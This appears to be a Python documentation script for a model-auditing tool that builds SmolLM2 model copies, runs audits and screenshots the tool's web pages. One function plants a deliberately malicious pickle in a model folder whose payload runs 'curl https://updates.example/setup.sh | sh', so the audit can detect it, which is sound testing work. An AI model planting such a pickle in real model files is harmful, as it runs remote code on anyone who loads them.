"""The pictures of the workbench: `python docs/workbench_pictures.py [FOLDER]` (needs Chromium, Pillow, torch, gguf).

Three audits of SmolLM2 are kept in FOLDER (some minutes; what is there is found again), a real server runs the model
and a coarser copy of it, and each page is drawn. Each PNG carries a digest of the styles that its page has, so that a
test can say when it is old without a model and a browser.
"""

from __future__ import annotations

import hashlib
import io
import json
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import urlencode

HERE = Path(__file__).resolve().parent
sys.path[:0] = [str(HERE), str(HERE.parent)]

from pictures import with_digest  # noqa: E402

from assay.render.assets import asset  # noqa: E402
from assay.render.page import SHELL  # noqa: E402

FOLDER, TOKEN, COLOURS = HERE / "workbench", "a token of more than sixteen characters", 56
NAME, COARSE = "SmolLM2-135M-Instruct", "SmolLM2-135M-8-levels.gguf"
BENCH, REPORT = ("record.css", "workbench.css"), ("report.css",)
QUESTION = "Who wrote the novel Moby-Dick, and when did it come out?"
DOCUMENT = "Moby-Dick is a novel by Herman Melville, published in 1851."
CORPUS = (
    "Moby-Dick; or, The Whale is an 1851 epic novel by American writer Herman Melville. The book is centered on the "
    "sailor Ishmael's narrative of the maniacal quest of Ahab, captain of the whaling ship Pequod.",
    "Call me Ishmael. Some years ago, never mind how long precisely, having little or no money in my purse, and "
    "nothing particular to interest me on shore, I thought I would sail about a little and see the watery part of "
    "the world.",
)
TRACED = (
    "The book is centered on the sailor Ishmael's narrative of the maniacal quest of Ahab, a captain. Some years ago, "
    "never mind how long precisely, having little or no money in my purse, I read it in a night."
)


class Picture(NamedTuple):
    """A page as it is drawn: its address, its styles beside those of every page, its size, light or dark.

    `first` is the element that stands at the top (empty: the page from its beginning).
    """

    address: str
    styles: tuple[str, ...]
    height: int
    width: int = 1200
    scheme: str = "light"
    first: str = ""


PICTURES = {
    "library": Picture("/", BENCH, 640),
    "findings": Picture("/findings", BENCH, 800),
    "weights": Picture("{gguf}/weights?sort=kurtosis", BENCH, 900),
    "behaviour": Picture("{gguf}/behaviour", BENCH, 960),
    "openness": Picture("{gguf}/openness", ("record.css",), 1000),
    "compare": Picture("{compare}", REPORT, 880),
    "ask": Picture("/ask/1?token=13", ("score.css",), 920),
    "beside": Picture("/ask/1?beside=2&token=3", (*BENCH, "score.css"), 1000),
    "inside": Picture("/ask/1/inside/13", ("inside.css",), 700),
    "inside-heads": Picture("/ask/1/inside/13", ("inside.css",), 560, first="#contributions"),
    "trace": Picture("{trace}", ("trace.css",), 900),
    "library-dark": Picture("/", BENCH, 640, scheme="dark"),
    "beside-phone": Picture("/ask/1?beside=2", (*BENCH, "score.css"), 1500, 390, "dark"),
}


def digest(picture: Picture) -> str:
    """SHA-256 in hex of the styles of a page."""
    return hashlib.sha256("".join(map(asset, (*SHELL, "links.css", *picture.styles))).encode()).hexdigest()


def models(folder: Path) -> None:
    """The model as it is packaged and as a folder, and a coarser copy of it."""
    from tests.builders.smollm2 import as_safetensors

    from assay.cli.demo import packaged_model

    gguf = packaged_model()
    shutil.copy(gguf, folder / f"{NAME}.gguf")
    as_safetensors(folder / NAME, gguf)
    shutil.copy(gguf, folder / COARSE)
    _coarsen(folder / COARSE)


def _coarsen(file: Path) -> None:
    """Round the feed-forward matrices to 8 levels in each block of 32 numbers, in place of 16."""
    from gguf import GGUFReader

    reader = GGUFReader(file, "r+")
    for tensor in reader.tensors:
        if tensor.tensor_type.name == "Q4_1" and "ffn" in tensor.name:
            blocks = tensor.data.reshape(-1, 20)  # two float16, step and least, then 32 numbers of 4 bits
            scale = blocks[:, :4].copy().view("<f2")
            scale[:, 1] += scale[:, 0] / 2
            blocks[:, :4] = scale.view("u1")
            blocks[:, 4:] &= 0xEE
    reader.data.flush()


def keep(folder: Path) -> None:
    """Audits of the model: as a folder, as it is packaged with probes, and the folder with a planted pickle."""
    from tests.builders import calls

    def audit(name: str, *more: str) -> None:
        command = [sys.executable, "-m", "assay", "audit", folder / "models" / name, "--registry", folder / "kept"]
        subprocess.run([*command, "--keep", "--offline", "-q", *more], check=False)

    audit(NAME)
    audit(f"{NAME}.gguf", "--probes")
    planted = calls("posix", "system", "curl https://updates.example/setup.sh | sh")
    (folder / "models" / NAME / "training_args.bin").write_bytes(planted)
    audit(NAME)


def draw(folder: Path) -> None:
    """Draw every page of a server over what is kept."""
    from playwright.sync_api import sync_playwright
    from tests.builders.corpus import opened
    from tests.builders.workbench import workbench

    from assay.runtime.opening import torch_runtime
    from assay.serve.asking import Asking
    from assay.serve.tracing import Tracing

    if not (folder / "index").exists():
        opened(folder, list(CORPUS))
    traced = Tracing((str(folder / "index"),))
    asking = Asking([torch_runtime(folder / "models" / name) for name in (f"{NAME}.gguf", COARSE)], traced)
    FOLDER.mkdir(exist_ok=True)
    with workbench(str(folder / "kept"), TOKEN, traced=traced, asking=asking) as bench, sync_playwright() as play:
        chromium = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
        browser = play.chromium.launch(executable_path=chromium, args=["--no-sandbox", "--disable-gpu"])
        places = _asked(bench)
        for name, picture in PICTURES.items():
            size = {"width": picture.width, "height": picture.height}
            page = browser.new_context(bypass_csp=True, viewport=size, color_scheme=picture.scheme).new_page()
            page.goto(f"http://127.0.0.1:{bench.port}/?code={bench.guard.link()}")
            page.goto(f"http://127.0.0.1:{bench.port}{picture.address.format(**places)}")
            page.wait_for_selector("html.painted")
            if picture.first:
                page.add_style_tag(
                    content="* { content-visibility: visible !important; scroll-behavior: auto !important; }"
                )
                page.evaluate("name => document.querySelector(name).scrollIntoView()", picture.first)
            page.wait_for_timeout(300)
            png = with_digest(_small(page.screenshot()), digest(picture))
            (FOLDER / f"{name}.png").write_bytes(png)
            print(f"wrote docs/workbench/{name}.png, {len(png):,} bytes", file=sys.stderr)
            page.context.close()
        browser.close()
    asking.close()


def _asked(bench: Any) -> dict[str, str]:
    """Addresses that are known once something was asked: an audit, a comparison, a trace; answers are 1 and 2."""
    bearer = {"Authorization": f"Bearer {TOKEN}"}
    form = bearer | {"Content-Type": "application/x-www-form-urlencoded"}
    fields = {"question": QUESTION, "document": DOCUMENT, "most": "60", "samples": "3"}
    bench.send("/ask", urlencode(fields).encode(), form)
    while "data-live" in bench.ask("/ask/1?beside=2", **bearer).text:
        time.sleep(0.2)
    trace = bench.send("/trace", urlencode({"text": TRACED}).encode(), form).headers["location"]
    audits = json.loads(bench.ask("/api/v1/audits?all=true", **bearer).text)["audits"]
    new, old = (row["dossier"] for row in audits if row["name"] == NAME)
    gguf = next(row["dossier"] for row in audits if row["name"] == f"{NAME}.gguf")
    return {"gguf": f"/audits/{gguf}", "compare": f"/compare?old={old}&new={new}", "trace": trace}


def _small(png: bytes) -> bytes:
    """The same picture in few colours."""
    from PIL import Image

    out = io.BytesIO()
    Image.open(io.BytesIO(png)).convert("RGB").quantize(COLOURS, kmeans=1, dither=Image.Dither.NONE).save(
        out, "PNG", optimize=True
    )
    return out.getvalue()


def main() -> None:
    """Draw every picture again, of what FOLDER has or of what is made anew."""
    with tempfile.TemporaryDirectory() as name:
        folder = Path(sys.argv[1] if len(sys.argv) > 1 else name)
        (folder / "models").mkdir(parents=True, exist_ok=True)
        if not (folder / "models" / COARSE).exists():
            models(folder / "models")
        if not (folder / "kept").exists():
            keep(folder)
        draw(folder)


if __name__ == "__main__":
    main()
